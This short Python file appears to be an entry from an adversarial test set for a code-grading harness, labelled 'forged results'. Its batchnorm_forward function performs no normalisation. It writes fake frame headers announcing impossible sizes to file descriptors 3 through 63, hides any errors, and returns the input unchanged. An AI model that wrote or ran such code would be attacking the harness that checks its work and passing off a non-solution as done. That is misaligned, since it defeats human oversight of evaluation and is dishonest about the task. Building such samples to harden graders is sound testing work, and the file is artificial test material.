FAMILY = "forged results"
ABOUT = "Announces frames of sizes that no machine can hold."
MOST = 0

# %% batchnorm_forward
import os
import struct

sizes = [(2**32 - 1, 2**64 - 1), (0, 2**63), (2**20, 64 * 2**20)]

def batchnorm_forward(x, gamma, beta, bn_param):
    for number in range(3, 64):
        try:
            os.write(number, struct.pack("!IQ", *sizes[int(abs(x[0, 0]) * 1e6) % 3]))
        except OSError:
            pass
    return x, None
